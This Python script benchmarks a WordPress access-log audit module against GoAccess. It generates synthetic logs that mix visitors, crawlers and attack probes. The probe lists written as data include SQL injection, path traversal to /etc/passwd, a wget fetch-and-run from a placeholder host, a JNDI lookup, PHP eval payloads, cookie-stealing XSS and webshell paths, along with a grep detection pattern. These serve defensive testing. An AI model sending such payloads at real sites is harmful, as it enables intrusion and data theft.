#!/usr/bin/env python3
"""Benchmark the access-log audit (library/website_log_audit.py) against GoAccess.

Generates a realistic combined-format access log of a court's WordPress site (default
2,000,000 lines over 7 days: visitors browsing pages with their assets, search-engine and
SEO crawlers, and attack probes: SQL injection, traversal, webshell and admin-panel
probes, wp-login.php/xmlrpc.php brute force, scanner user agents), cached under
--work, then measures side by side in one run, each as its own process:

- GoAccess:  goaccess LOG --log-format=COMBINED -o report.json (its full JSON report)
- grep:      grep -cE over ten attack patterns (the floor of reading the file)
- module:    the website_log_audit module, first run (no state: the whole file)
- daily:     one more day's worth of lines (--day-lines, dated the last 12 hours) is
             appended, then the module again with its state: it reads only the new lines

and prints wall times, peak memory (RSS of the process tree, sampled every 20 ms) and the
ratios against the targets: module <= 0.33x GoAccess (goal 0.1x); the daily run costs in
proportion to the new lines, not to the file.

    .venv/bin/python benchmarks/log_audit.py [--lines 2000000] [--work DIR]
"""

from __future__ import annotations

import argparse
import datetime as dt
import json
import os
import random
import shutil
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]

# -- the generator -----------------------------------------------------------------------
MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/{v}.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Linux; Android {a}; SM-A{m}F) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/{v}.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_{a} like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/17.{a} Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0",
    "Mozilla/5.0 (Linux; Android {a}; Redmi Note {a}) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/{v}.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/{v}.0.0.0 Safari/537.36",
]
CRAWLERS = [
    ("66.249.{b}.{c}", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
    ("66.249.{b}.{c}", "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) "
     "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Mobile Safari/537.36 "
     "(compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
    ("40.77.{b}.{c}", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"),
    ("5.255.{b}.{c}", "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)"),
    ("54.36.{b}.{c}", "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"),
    ("185.191.{b}.{c}", "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)"),
    ("47.128.{b}.{c}", "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Mobile Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)"),
    ("17.241.{b}.{c}", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 "
     "(KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1)"),
]
SCANNERS = [
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
    "sqlmap/1.7.11#stable (https://sqlmap.org)",
    "Mozilla/5.0 zgrab/0.x",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/119.0.0.0 Safari/537.36",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
]
PROBES = {
    "sqli": ["/?p=1%27%20OR%20%271%27=%271", "/index.php?id=1%20UNION%20SELECT%20user_login,"
             "user_pass%20FROM%20wp_users--", "/?s=%27%20AND%20SLEEP(5)--%20-",
             "/berita/?cat=-1+union+all+select+1,2,concat(0x7176,version()),4--",
             "/wp-admin/admin-ajax.php?action=x&id=1%29%20AND%20EXTRACTVALUE(1,CONCAT(0x5c,"
             "database()))"],
    "lfi": ["/../../../../etc/passwd", "/index.php?page=../../../../etc/passwd",
            "/wp-content/plugins/x/download.php?file=..%2F..%2F..%2Fwp-config.php",
            "/static/..%252f..%252f..%252fetc%252fpasswd"],
    "rce": ["/cgi-bin/test.cgi?cmd=id", "/index.php?s=/index/think/app/invokefunction&function="
            "call_user_func_array&vars[0]=system&vars[1][]=id", "/?x=$(wget%20http://1.2.3.4/a.sh)"],
    "php": ["/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            "/index.php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input"],
    "xss": ["/?s=%3Cscript%3Ealert(document.cookie)%3C/script%3E"],
    "java": ["/?x=${jndi:ldap://1.2.3.4:1389/a}"],
    "webshell": ["/wp-content/uploads/2024/05/alfa.php", "/wso.php", "/shell.php",
                 "/wp-content/plugins/hello/up.php", "/.well-known/acme-challenge/index.php",
                 "/wp-includes/css/about.php", "/indoxploit.php"],
    "restricted_file": ["/.env", "/.git/config", "/wp-config.php.bak", "/backup.sql",
                        "/server-status", "/.aws/credentials", "/phpinfo.php"],
    "admin_probe": ["/phpmyadmin/", "/pma/index.php", "/wp-admin/setup-config.php",
                    "/administrator/index.php", "/cgi-bin/luci"],
}


def stamp(when: dt.datetime) -> str:
    return f"{when.day:02d}/{MONTHS[when.month - 1]}/{when.year}:{when:%H:%M:%S} +0700"


SLUG_WORDS = (("sidang", "putusan", "pelantikan", "sosialisasi", "rapat", "ptsp",
               "zona-integritas", "mediasi", "e-court", "pengumuman"),
              ("hakim", "pegawai", "perkara", "tahun-2026", "pn-bangil", "wbk", "layanan"))
SEARCHES = ("jadwal", "sidang", "cerai", "ptsp", "tilang", "e-court", "gugatan", "biaya+perkara")
REFERERS = ("-", "https://www.google.com/", "https://www.google.co.id/",
            "https://web.facebook.com/", "https://pn-bangil.go.id/")
BRUTE_AGENT = "Mozilla/5.0 (Windows NT 6.1; rv:60.0)"


class Site:
    """A court WordPress site's URLs with Zipf-like popularity."""

    def __init__(self, rng: random.Random) -> None:
        slugs = [f"{rng.choice(SLUG_WORDS[0])}-{rng.choice(SLUG_WORDS[1])}-{i}"
                 for i in range(1500)]
        self.pages = (["/", "/", "/", "/berita/", "/profil/", "/kontak/", "/jadwal-sidang/",
                       "/layanan/ptsp/", "/layanan/e-court/", "/pengumuman/", "/feed/",
                       "/sitemap.xml", "/robots.txt", "/wp-json/wp/v2/posts"]
                      + [f"/berita/{s}/" for s in slugs] + [f"/page/{n}/" for n in range(2, 80)]
                      + [f"/?s={w}" for w in SEARCHES])
        self.assets = ["/wp-content/themes/pengadilan/style.css?ver=6.1.1",
                       "/wp-includes/js/jquery/jquery.min.js?ver=3.6.1",
                       "/wp-includes/css/dist/block-library/style.min.css?ver=6.1.1",
                       "/wp-content/themes/pengadilan/js/main.js?ver=1.4",
                       "/wp-content/themes/pengadilan/img/logo.png", "/favicon.ico",
                       "/wp-includes/js/wp-emoji-release.min.js?ver=6.1.1"]
        self.photos = [f"/wp-content/uploads/2026/{m:02d}/foto-{n}.jpg"
                       for m in range(1, 12) for n in range(60)]
        self.weights = [1.0 / (i + 1) ** 0.9 for i in range(len(self.pages))]

    def page(self, rng: random.Random) -> str:
        return rng.choices(self.pages, self.weights)[0]


def address(rng: random.Random, firsts: tuple[int, ...]) -> str:
    return (f"{rng.choice(firsts)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}."
            f"{rng.randint(1, 254)}")


def entry(ip: str, t: str, request: str, *, status: int, size: int, referer: str,
          agent: str) -> str:
    return f'{ip} - - [{t}] "{request} HTTP/1.1" {status} {size} "{referer}" "{agent}"'


def events(rng: random.Random, site: Site, agents: list[str], t: str) -> list[str]:
    """The lines of one event at time ``t``: a visit, a crawl, a brute force or probes."""
    roll = rng.random()
    if roll < 0.82:  # a visitor: a page and its assets
        ip, agent, page = address(rng, (36, 110, 114, 180, 182, 202, 103)), rng.choice(agents), \
            site.page(rng)
        status = 200 if rng.random() > 0.02 else 404
        batch = [entry(ip, t, f"GET {page}", status=status, size=rng.randint(3000, 90000),
                       referer=rng.choice(REFERERS), agent=agent)]
        assets = (rng.sample(site.assets, rng.randint(0, 5))
                  + rng.sample(site.photos, rng.randint(0, 3)))
        for asset in assets:
            code, size = (304, 0) if rng.random() < 0.4 else (200, rng.randint(400, 250000))
            batch.append(entry(ip, t, f"GET {asset}", status=code, size=size,
                               referer=f"https://pn-bangil.go.id{page}", agent=agent))
        return batch
    if roll < 0.97:  # a crawler
        pattern, agent = rng.choice(CRAWLERS)
        ip = pattern.format(b=rng.randint(0, 255), c=rng.randint(1, 254))
        return [entry(ip, t, f"GET {site.page(rng)}",
                      status=rng.choice((200, 200, 200, 301, 304)),
                      size=rng.randint(3000, 90000), referer="-", agent=agent)]
    if roll < 0.985:  # wp-login / xmlrpc brute force burst
        ip, target = address(rng, (103,)), rng.choice(("/wp-login.php", "/xmlrpc.php"))
        return [entry(ip, t, f"POST {target}", status=200, size=rng.randint(1500, 4000),
                      referer="-", agent=BRUTE_AGENT) for _ in range(rng.randint(5, 40))]
    ip, agent = address(rng, (45, 185, 194, 89)), rng.choice(SCANNERS)  # attack probes
    batch = []
    for _ in range(rng.randint(1, 8)):
        probe = rng.choice(rng.choice(list(PROBES.values())))
        method = "GET" if rng.random() > 0.05 else rng.choice(("PROPFIND", "PUT", "TRACE"))
        batch.append(entry(ip, t, f"{method} {probe}",
                           status=rng.choice((404, 404, 403, 400, 200)), size=162, referer="-",
                           agent=agent))
    return batch


def generate(path: Path, lines: int, *, seed: int = 2016, start: dt.datetime,
             days: float = 7.0) -> None:
    """Write ``lines`` combined-format lines spread over ``days`` from ``start``."""
    rng = random.Random(seed)
    site = Site(rng)
    agents = [b.format(v=rng.randint(110, 121), a=rng.randint(10, 14), m=rng.randint(10, 55))
              for b in BROWSERS for _ in range(30)]
    step = days * 86400.0 / lines
    written = 0
    with open(path, "w", encoding="utf-8", buffering=1 << 20) as out:
        while written < lines:
            t = stamp(start + dt.timedelta(seconds=written * step))
            batch = events(rng, site, agents, t)[:lines - written]
            out.write("\n".join(batch) + "\n")
            written += len(batch)


# -- measuring ---------------------------------------------------------------------------

def tree_rss(pid: int) -> int:
    """Resident bytes of a process and its descendants."""
    total, todo = 0, [pid]
    while todo:
        current = todo.pop()
        try:
            with open(f"/proc/{current}/status", encoding="ascii") as handle:
                for line in handle:
                    if line.startswith("VmRSS:"):
                        total += int(line.split()[1]) * 1024
            with open(f"/proc/{current}/task/{current}/children", encoding="ascii") as handle:
                todo.extend(int(c) for c in handle.read().split())
        except (OSError, ValueError):
            continue
    return total


def measure(argv: list[str], **kwargs: object) -> tuple[float, int, str]:
    """(wall seconds, peak tree RSS, stdout) of one command."""
    started = time.monotonic()
    proc = subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            **kwargs)  # type: ignore[call-overload]
    peak = [0]

    def sample() -> None:
        while proc.poll() is None:
            peak[0] = max(peak[0], tree_rss(proc.pid))
            time.sleep(0.02)

    sampler = threading.Thread(target=sample, daemon=True)
    sampler.start()
    out, err = proc.communicate()
    elapsed = time.monotonic() - started
    sampler.join()
    if proc.returncode:
        sys.exit(f"{argv[0]} failed ({proc.returncode}): {err.strip()[-2000:]}")
    return elapsed, peak[0], out


DRIVER = """
import json, sys
import ansible.module_utils
ansible.module_utils.__path__.append({utils!r})
sys.argv = [sys.argv[0], {args!r}]
import runpy
runpy.run_path({module!r}, run_name="__main__")
"""


def run_module(work: Path, log: Path) -> tuple[float, int, dict[str, object]]:
    args = work / "args.json"
    args.write_text(json.dumps({"ANSIBLE_MODULE_ARGS": {
        "paths": [str(log)], "state_dir": str(work / "state"), "_ansible_check_mode": False}}))
    code = DRIVER.format(utils=str(ROOT / "module_utils"), args=str(args),
                         module=str(ROOT / "library" / "website_log_audit.py"))
    elapsed, peak, out = measure([sys.executable, "-c", code])
    return elapsed, peak, json.loads(out)


GREP = ("union.*select|\\.\\./|etc/passwd|wp-login\\.php|xmlrpc\\.php|\\.env|phpmyadmin|"
        "eval-stdin|jndi:|<script|nikto|sqlmap")


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--lines", type=int, default=2_000_000)
    parser.add_argument("--day-lines", type=int, default=0,
                        help="lines of the appended day (default: lines / 7)")
    parser.add_argument("--work", type=Path,
                        default=Path(tempfile.gettempdir()) / "sop-bench-log-audit")
    args = parser.parse_args()
    goaccess = shutil.which("goaccess")
    if goaccess is None:
        sys.exit("goaccess is not installed (apt-get install goaccess)")
    args.work.mkdir(parents=True, exist_ok=True)
    base = args.work / f"access-{args.lines}.log"
    start = dt.datetime(2026, 11, 20)
    if not base.exists():
        print(f"generating {args.lines:,} lines ...", flush=True)
        began = time.monotonic()
        generate(base.with_suffix(".tmp"), args.lines, start=start)
        base.with_suffix(".tmp").rename(base)
        print(f"  {time.monotonic() - began:.0f} s", flush=True)
    day_lines = args.day_lines or args.lines // 7
    day = args.work / f"day-{day_lines}.log"
    # The new lines are of the last hours, made each time: the module sets aside, as
    # forged, times in new lines more than a day before its previous run (the first run,
    # just before), as a day's real lines never are.
    generate(day, day_lines, seed=7, start=dt.datetime.now() - dt.timedelta(hours=12), days=0.5)
    log = args.work / "access.log"
    shutil.copyfile(base, log)
    shutil.rmtree(args.work / "state", ignore_errors=True)
    size = log.stat().st_size

    print(f"log: {args.lines:,} lines, {size / 1e6:.0f} MB; {os.cpu_count()} CPUs", flush=True)
    g_time, g_rss, _ = measure([goaccess, str(log), "--log-format=COMBINED",
                                "--no-global-config", "-o", str(args.work / "report.json")])
    print(f"GoAccess        {g_time:7.2f} s  peak RSS {g_rss / 2**20:7.1f} MiB", flush=True)
    r_time, _r_rss, out = measure(["grep", "-ciE", GREP, str(log)])
    print(f"grep -ciE       {r_time:7.2f} s  ({out.strip()} matching lines)", flush=True)
    m_time, m_rss, result = run_module(args.work, log)
    audit = result["audit"]
    assert isinstance(audit, dict)
    print(f"module, full    {m_time:7.2f} s  peak RSS {m_rss / 2**20:7.1f} MiB  "
          f"({audit['requests']:,} requests, {audit['unique_visitors']:,} visitors, "
          f"{len(audit['findings'])} finding categories)", flush=True)
    with open(log, "ab") as out_file, open(day, "rb") as new:
        shutil.copyfileobj(new, out_file)
    d_time, d_rss, result = run_module(args.work, log)
    daily = result["audit"]
    assert isinstance(daily, dict)
    print(f"module, daily   {d_time:7.2f} s  peak RSS {d_rss / 2**20:7.1f} MiB  "
          f"({daily['requests']:,} new requests)", flush=True)
    ratio = m_time / g_time
    lines_ratio = day_lines / args.lines
    print()
    print(f"module / GoAccess          {ratio:.3f}x  (target <= 0.33x, goal 0.1x): "
          f"{'met' if ratio <= 0.33 else 'MISSED'}")
    print(f"peak RSS module / GoAccess {m_rss / g_rss:.2f}")
    print(f"daily / full time          {d_time / m_time:.3f} for {lines_ratio:.3f} of the lines "
          f"(proportional: {'yes' if d_time / m_time <= lines_ratio * 1.5 + 0.05 else 'NO'})")
    print(f"daily requests read        {daily['requests']:,} of {day_lines:,} appended")
    return 0 if ratio <= 0.33 and daily["requests"] == day_lines else 1


if __name__ == "__main__":
    sys.exit(main())
